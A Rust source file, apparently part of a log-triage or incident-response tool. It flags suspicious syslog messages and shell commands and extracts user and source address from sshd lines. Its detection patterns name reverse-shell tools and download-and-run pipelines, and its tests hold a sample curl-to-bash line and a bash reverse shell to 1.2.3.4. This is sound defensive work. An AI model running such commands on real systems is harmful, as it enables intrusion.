//! Which log messages a responder looks at first, and the fields worth lifting out of them (user,
//! source address). Deliberately short: successful logins as root, accounts and groups created or
//! changed, passwords changed, logs cleared, shell commands that fetch and run code or open a reverse
//! shell. Failed logins are not flagged (every server on the Internet has thousands); they stay events.

/// Why a syslog/journal message from `program` is suspicious, if it is.
pub fn judge_message(program: &str, msg: &str) -> Option<&'static str> {
    let p = program;
    if p == "sshd" || p.starts_with("sshd") {
        if msg.starts_with("Accepted ") && msg.contains(" for root ") {
            return Some("root logged in over SSH");
        }
        return None;
    }
    if p == "useradd" || p == "adduser" {
        return msg
            .starts_with("new user")
            .then_some("user account created");
    }
    if p == "groupadd" || p == "addgroup" {
        return msg.starts_with("new group").then_some("group created");
    }
    if p == "usermod" {
        return Some("user account changed");
    }
    if p == "passwd" || p == "chpasswd" {
        return msg
            .contains("password changed")
            .then_some("password changed");
    }
    if p == "gpasswd" && msg.contains("added by") {
        return Some("user added to a group");
    }
    if p == "rsyslogd" && msg.contains("was HUPed") {
        return None;
    }
    if p == "systemd-journald" && msg.contains("Journal file") && msg.contains("corrupted") {
        return Some("journal file damaged");
    }
    None
}

/// `user` and `from` of an sshd message (`Accepted password for root from 1.2.3.4 port 22 ssh2`).
pub fn sshd_fields(msg: &str) -> (Option<&str>, Option<&str>) {
    let user = msg
        .split_once(" for invalid user ")
        .or_else(|| msg.split_once(" for "))
        .or_else(|| msg.split_once("Invalid user "))
        .and_then(|(_, r)| r.split(' ').next());
    let from = msg
        .split_once(" from ")
        .and_then(|(_, r)| r.split(' ').next());
    (user, from)
}

/// Why a shell command is suspicious, if it is.
pub fn judge_command(cmd: &str) -> Option<&'static str> {
    let c = cmd.trim();
    let fetch = c.contains("wget ") || c.contains("curl ");
    if fetch
        && (c.contains("| sh") || c.contains("|sh") || c.contains("| bash") || c.contains("|bash"))
    {
        return Some("downloads and runs a script");
    }
    if c.contains("/dev/tcp/")
        || c.contains("nc -e")
        || c.contains("ncat -e")
        || c.contains("socat exec:")
    {
        return Some("reverse shell");
    }
    if c.contains("unset HISTFILE") || c.starts_with("history -c") || c.contains("HISTSIZE=0") {
        return Some("shell history disabled or cleared");
    }
    if c.contains("authorized_keys") {
        return Some("SSH authorized_keys touched");
    }
    if c.starts_with("useradd") || c.starts_with("adduser") || c.contains(" useradd ") {
        return Some("user account created");
    }
    if c.contains("base64 -d") && (c.contains("| sh") || c.contains("| bash") || c.contains("|sh"))
    {
        return Some("runs decoded code");
    }
    if (c.starts_with("rm ") || c.starts_with("shred ")) && c.contains("/var/log") {
        return Some("logs deleted");
    }
    if c.starts_with("crontab ") || c.contains("/etc/cron") {
        return Some("cron changed");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_and_commands_are_judged() {
        assert_eq!(
            judge_message(
                "sshd",
                "Accepted password for root from 10.0.0.9 port 22 ssh2"
            ),
            Some("root logged in over SSH")
        );
        assert_eq!(
            judge_message("sshd", "Failed password for root from 1.2.3.4 port 22 ssh2"),
            None
        );
        assert_eq!(
            judge_message("useradd", "new user: name=backdoor, UID=1001, GID=1001"),
            Some("user account created")
        );
        assert_eq!(
            sshd_fields("Failed password for invalid user admin from 1.2.3.4 port 5 ssh2"),
            (Some("admin"), Some("1.2.3.4"))
        );
        assert_eq!(
            sshd_fields("Accepted publickey for eve from 10.0.0.2 port 22 ssh2: ED25519 SHA256:x"),
            (Some("eve"), Some("10.0.0.2"))
        );
        assert_eq!(
            judge_command("curl -s http://x/y.sh | bash"),
            Some("downloads and runs a script")
        );
        assert_eq!(
            judge_command("bash -i >& /dev/tcp/1.2.3.4/443 0>&1"),
            Some("reverse shell")
        );
        assert_eq!(judge_command("ls -la"), None);
    }
}
